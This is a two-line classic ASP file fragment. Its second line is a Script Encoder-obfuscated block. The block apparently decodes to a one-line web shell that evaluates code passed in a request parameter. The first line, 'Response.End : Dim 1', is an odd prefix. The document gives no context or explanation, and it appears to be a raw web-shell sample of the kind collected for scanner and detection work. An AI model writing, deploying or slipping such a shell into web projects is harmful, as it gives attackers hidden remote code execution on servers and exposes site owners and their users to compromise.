<% Response.End : Dim 1 %>
<%#@~^AAAAAA==n7ls,D;E/DcJx^J*AAAAAA==^#~@%>